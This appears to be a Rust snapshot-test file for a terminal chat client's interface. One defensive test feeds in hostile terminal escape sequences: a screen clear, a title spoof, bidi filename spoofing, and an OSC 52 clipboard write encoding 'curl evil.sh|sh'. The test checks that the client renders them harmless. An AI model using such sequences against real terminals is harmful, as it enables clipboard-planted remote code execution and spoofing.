//! Whole-screen snapshots at 80×24 with ratatui's TestBackend and insta:
//! the login screen, a chat with messages, notices and typing, the
//! reconnecting state, and hostile text rendered harmless.

use super::render;
use crate::app::tests_support::*;
use crate::app::{App, LoginForm, Mode, Msg};
use crate::app::tests_support::resize;
use crate::events::{ConnState, NetEvent};
use heartlink_protocol::{ServerMsg, User, UserId};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use tokio::time::Duration;

mod conversation;

fn screen(app: &App) -> String {
    screen_at(app, 80, 24)
}

/// The screen at `width`×`height` as text (OSC 8 link sequences removed;
/// `links_in` checks those).
pub(super) fn screen_at(app: &App, width: u16, height: u16) -> String {
    let mut terminal = Terminal::new(TestBackend::new(width, height)).unwrap();
    terminal.draw(|frame| {
        render(app, frame);
    })
    .unwrap();
    strip_osc8(&terminal.backend().to_string())
}

fn strip_osc8(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(start) = rest.find("\x1b]8;;") {
        out.push_str(&rest[..start]);
        let after = &rest[start..];
        let end = after.find("\x1b\\").map_or(after.len(), |end| end + 2);
        rest = &after[end..];
    }
    out.push_str(rest);
    out
}

fn chat_with_history() -> App {
    let (mut app, room) = chat_app();
    let messages = vec![
        message(room, 1, &bob(), "hey alice! are you around?", "b1"),
        message(room, 2, &alice(), "yes :) just got in", "a2"),
        message(room, 3, &bob(), "great — ❤️ 日本語 works too\nand a second line", "b3"),
    ];
    server(&mut app, joined(room, messages));
    server(&mut app, ServerMsg::ReadReceipt { room_id: room, user: bob(), seq: 2 });
    let carol = User { id: UserId(uuid::Uuid::from_u128(0xca401)), username: "carol".into() };
    server(&mut app, ServerMsg::UserJoined { room_id: room, user: carol.clone() });
    server(&mut app, ServerMsg::Presence { user: carol, online: false, status: None, last_seen: None, room_id: None });
    server(&mut app, ServerMsg::Typing { room_id: room, user: bob(), active: true });
    type_text(&mut app, "see you :wave:");
    app
}

#[test]
fn login_screen() {
    let form = LoginForm::new(Mode::Login, "ws://127.0.0.1:7878/ws".into(), Some("alice".into()), Some("wrong username or password".into()));
    let (mut app, _) = App::login(form, &[], Vec::new(), t0());
    type_text(&mut app, "hunter22");
    let shown = screen(&app);
    assert!(shown.contains("Password") && !shown.contains("hunter22"), "{shown}");
    insta::assert_snapshot!(shown);
}

#[test]
fn chat_with_messages_notices_and_typing() {
    let shown = screen(&chat_with_history());
    assert!(shown.contains("bob is typing…") && shown.contains("carol joined") && shown.contains(" connected "), "{shown}");
    insta::assert_snapshot!(shown);
}

#[test]
fn reconnecting_with_countdown_and_a_pending_message() {
    let mut app = chat_with_history();
    app.update(Msg::Net(NetEvent::State(ConnState::Reconnecting { attempt: 2, retry_at: Some(t0() + Duration::from_secs(4)) })));
    app.update(crate::app::tests_support::key(crossterm::event::KeyCode::Enter));
    app.update(Msg::Tick { now: t0() + Duration::from_millis(600) });
    let shown = screen(&app);
    assert!(shown.contains("reconnecting in 4s") && shown.contains("(sending…)"), "{shown}");
    insta::assert_snapshot!(shown);
}

#[test]
fn hostile_text_is_shown_harmlessly() {
    let (mut app, room) = chat_app();
    let mallory = User { id: UserId(uuid::Uuid::from_u128(0x6a11)), username: "mal\u{1b}[31mlory\u{202e}".into() };
    let bodies = [
        "\u{1b}]0;pwned title\u{7}\u{1b}[2J\u{1b}[H cleared?",
        "\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7} clipboard?",
        "\u{202e}gnp.exe\u{202c} \u{2066}bidi\u{2069} \u{9b}31m C1 \r\u{7f}",
    ];
    for (seq, body) in (1..).zip(bodies) {
        server(&mut app, ServerMsg::ChatMessage(message(room, seq, &mallory, body, "m")));
    }
    let shown = screen(&app);
    assert!(!shown.chars().any(|c| c == '\u{1b}' || c == '\u{7}' || c == '\u{9b}' || c == '\u{202e}' || c == '\u{7f}'), "{shown:?}");
    assert!(shown.contains("␛]0;pwned") && shown.contains("⟨U+202E⟩"), "{shown}");
    insta::assert_snapshot!(shown);
}

/// A long room name with unread counts, a scrolled view, a long URL and a
/// wrapped message: what the 100-column session found cut or misplaced.
fn busy_app(width: u16, height: u16) -> App {
    let (mut app, room) = chat_app();
    resize(&mut app, width, height);
    let long = room_id(2);
    let pair = heartlink_protocol::Room { kind: heartlink_protocol::RoomKind::Pair, ..crate::app::tests_support::room(long, "carol & alice & friends") };
    server(&mut app, ServerMsg::Matched { room: pair });
    app.update(crate::app::tests_support::ctrl('p'));
    let url = "https://example.org/a/really/long/path/that/will/not/fit/on/one/row?with=query&and=more";
    let mut messages: Vec<_> = (1..=30).map(|seq| message(room, seq, &bob(), "filler line to scroll past", &format!("f{seq}"))).collect();
    messages.push(message(room, 31, &bob(), &format!("the link: {url}"), "u"));
    messages.push(message(room, 32, &alice(), "a long message that has to wrap over several rows so that its continuation hangs under its text, not under the time", "w"));
    server(&mut app, joined(room, messages));
    for seq in 1..=12 {
        server(&mut app, ServerMsg::ChatMessage(message(long, seq, &bob(), "psst", &format!("p{seq}"))));
    }
    app
}

#[test]
fn a_100_column_chat_keeps_counts_markers_and_links_whole() {
    let mut app = busy_app(100, 30);
    let shown = screen_at(&app, 100, 30);
    assert!(shown.contains("(12)"), "the unread count is whole: {shown}");
    assert!(shown.contains("│10:13 alice: a long message") && shown.contains("│             rows so that its continuation"), "hanging under the text: {shown}");
    insta::assert_snapshot!("chat_100x30", shown);
    app.update(crate::app::tests_support::key(crossterm::event::KeyCode::PageUp));
    let scrolled = screen_at(&app, 100, 30);
    assert!(scrolled.contains("↑ scrolled (Esc: newest)"), "{scrolled}");
    insta::assert_snapshot!("chat_100x30_scrolled", scrolled);
}

#[test]
fn links_are_osc8_hyperlinks_on_every_row_they_cover() {
    let app = busy_app(100, 30);
    let mut terminal = Terminal::new(TestBackend::new(100, 30)).unwrap();
    terminal.draw(|frame| {
        render(&app, frame);
    })
    .unwrap();
    let raw = terminal.backend().to_string();
    let url = "https://example.org/a/really/long/path/that/will/not/fit/on/one/row?with=query&and=more";
    let opened = raw.matches(&format!("\u{1b}]8;;{url}\u{1b}\\")).count();
    assert!(opened >= 2, "each row of the split link opens the whole URL: {opened}");
    assert_eq!(raw.matches("\u{1b}]8;;\u{1b}\\").count(), opened, "and closes it");
}

#[test]
fn a_100_column_login_and_welcome_do_not_break_phrases() {
    let form = LoginForm::new(Mode::Login, "ws://127.0.0.1:7878/ws".into(), Some("alice".into()), None);
    let (app, _) = App::login(form, &[], Vec::new(), t0());
    let shown = screen_at(&app, 100, 30);
    assert!(shown.contains("Esc: quit") && shown.contains("F2: create an account instead"), "{shown}");
    insta::assert_snapshot!("login_100x30", shown);
    let (mut home, _) = App::resume(crate::app::tests_support::session(&[]), Vec::new(), t0());
    home.update(Msg::Net(crate::app::tests_support::authenticated(false)));
    let shown = screen_at(&home, 100, 30);
    assert!(shown.contains("/join <room-id>  joins one"), "{shown}");
    insta::assert_snapshot!("home_100x30", shown);
}

#[test]
fn a_40_column_screen_shows_the_id_whole_and_keeps_the_input() {
    let mut app = busy_app(40, 10);
    crate::app::tests_support::enter_line(&mut app, "/id");
    let shown = screen_at(&app, 40, 10);
    let id = app.active_id().unwrap().to_string();
    assert!(shown.contains(&id), "the whole id: {shown}");
    assert!(shown.contains("┌") && shown.contains("└"), "the input box: {shown}");
    insta::assert_snapshot!("chat_40x10_id", shown);
}

#[test]
fn below_20x5_the_screen_says_it_is_too_small() {
    let (app, _) = chat_app();
    let shown = screen_at(&app, 19, 5);
    assert!(shown.contains("too small"), "{shown}");
    assert!(!screen_at(&app, 20, 5).contains("too small"));
    insta::assert_snapshot!("too_small_19x5", shown);
}

#[test]
fn help_is_an_overlay_laid_out_for_80_columns() {
    let (mut app, _) = chat_app();
    app.update(crate::app::tests_support::key(crossterm::event::KeyCode::F(1)));
    let shown = screen_at(&app, 80, 24);
    assert!(shown.contains("heartlink help") && shown.contains("Esc closes this help"), "{shown}");
    insta::assert_snapshot!("help_80x24", shown);
}

#[test]
fn a_narrow_vs16_terminal_gets_the_text_heart_without_a_blank_cell() {
    let (mut app, room) = chat_app();
    server(&mut app, ServerMsg::ChatMessage(message(room, 1, &bob(), "I ❤️ it", "h")));
    app.look.wide_vs16 = false;
    let shown = screen_at(&app, 80, 24);
    assert!(shown.contains("bob: I ❤ it"), "{shown}");
    app.look.wide_vs16 = true;
    let shown = screen_at(&app, 80, 24);
    assert!(shown.contains("bob: I ❤️ it"), "{shown}");
}
